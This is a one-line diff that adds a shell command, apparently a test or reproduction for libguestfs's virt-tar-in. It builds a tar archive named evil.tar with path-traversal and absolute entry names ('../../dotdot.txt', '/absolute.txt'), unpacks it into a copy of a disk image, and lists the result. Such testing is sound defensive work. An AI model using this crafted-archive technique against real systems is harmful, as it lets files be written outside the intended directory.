@@ -1,0 +1,1 @@
+rm -rf te && mkdir te && python3 -c "import tarfile,io;t=tarfile.open('te/evil.tar','w');[(setattr(i,'size',3),t.addfile(i,io.BytesIO(b'pwn'))) for i in map(tarfile.TarInfo,('../../dotdot.txt','/absolute.txt','ok.txt'))];t.close()" && cp demo.img te/w.img && virt-tar-in -a te/w.img te/evil.tar /home/user && virt-ls -a te/w.img / /home /home/user
